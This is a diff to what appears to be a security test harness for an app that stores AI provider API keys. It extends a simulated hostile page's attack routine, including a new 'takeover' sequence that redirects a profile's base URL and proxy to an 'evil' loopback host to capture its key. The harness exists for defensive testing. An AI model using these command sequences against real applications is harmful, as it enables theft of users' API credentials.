@@ -59,7 +59,7 @@ export async function startEvilHost(): Promise<EvilHost> {
   };
 }
 
-/** These would only take the key away, and end the attack. */
+/** Drawn for any profile, these would only take the key away and end the attack: {@link takeover} plays them. */
 const pointless = ['profiles.remove', 'profiles.removeKey', 'profiles.saveKey', 'profiles.update'];
 const names = Object.keys(commands).filter((name) => !pointless.includes(name));
 
@@ -116,6 +116,8 @@ export interface AttackOptions {
   readonly call: Call;
   /** The profile whose key the attacker wants. */
   readonly victimId: string;
+  /** Another profile with a key, which the attack may take away. */
+  readonly sacrificeId: string;
   readonly evilPort: number;
   readonly seed: number;
   readonly rounds: number;
@@ -126,7 +128,7 @@ export interface AttackOptions {
  * @returns all that the page was answered
  */
 export async function attackContract(options: AttackOptions): Promise<string> {
-  const { call, victimId, evilPort, seed, rounds } = options;
+  const { call, victimId, sacrificeId, evilPort, seed, rounds } = options;
   const random = randomOf(seed);
   const evil = `http://127.0.0.1:${evilPort}`;
   let heard = '';
@@ -142,11 +144,7 @@ export async function attackContract(options: AttackOptions): Promise<string> {
     },
   ]);
   const planted = created?.ok ? (created.value as { id: string }).id : '';
-  const use = [
-    { name: 'profiles.activate', input: { id: victimId } },
-    { name: 'profiles.test', input: { id: victimId } },
-    { name: 'models.refresh', input: {} },
-  ];
+  const use = callsWith(victimId);
   for (const one of plans(victimId, evil)) await say([one, ...use]);
   const known = [victimId, planted, 'a/model', evil, `${evil}/v1`, `${evil}/x.pac`, `127.0.0.1:${evilPort}`];
   for (let round = 0; round < rounds; round += 1) {
@@ -158,12 +156,46 @@ export async function attackContract(options: AttackOptions): Promise<string> {
     await say(calls);
     await say(use);
   }
+  for (const one of takeover(sacrificeId, evil)) {
+    await say([one]);
+    await say(callsWith(sacrificeId));
+  }
   await say([{ name: 'profiles.test', input: { id: planted } }]);
   await say([
     { name: 'app.snapshot', input: {} },
     { name: 'inspector.export', input: { ids: null, format: 'har' } },
   ]);
   return heard;
+}
+
+const callsWith = (id: string): readonly AttackCall[] => [
+  { name: 'profiles.activate', input: { id } },
+  { name: 'profiles.test', input: { id } },
+  { name: 'models.refresh', input: {} },
+];
+
+/** Moves a profile with its key, and puts another key or profile in its place. */
+function takeover(id: string, evil: string): readonly AttackCall[] {
+  const move = (baseUrl: string) => ({ name: 'profiles.update', input: { id, baseUrl } });
+  const proxy = { kind: 'fixed', url: evil, username: null };
+  return [
+    { name: 'profiles.saveKey', input: { id, key: '', keep: 'session' } },
+    { name: 'network.save', input: { profileId: id, network: { ...defaultNetwork, proxy } } },
+    move(`${evil}/v1`),
+    { name: 'profiles.saveKey', input: { id, key: 'planted', keep: 'session' } },
+    { name: 'profiles.removeKey', input: { id } },
+    { name: 'network.save', input: { profileId: id, network: { ...defaultNetwork, proxy } } },
+    { name: 'profiles.remove', input: { id } },
+    { name: 'profiles.saveKey', input: { id, key: 'planted', keep: 'session' } },
+  ];
+}
+
+/**
+ * What every call would take, read from what a page is shown: a request to loopback, as in a test, takes no proxy of all
+ * profiles, so where its bytes go proves nothing of those.
+ */
+export function waysOf({ settings }: Snapshot, profileId: string): string {
+  return JSON.stringify([settings.network, settings.networks[profileId] ?? null]);
 }
 
 /** What an attacker would try first, who has read the contract. */
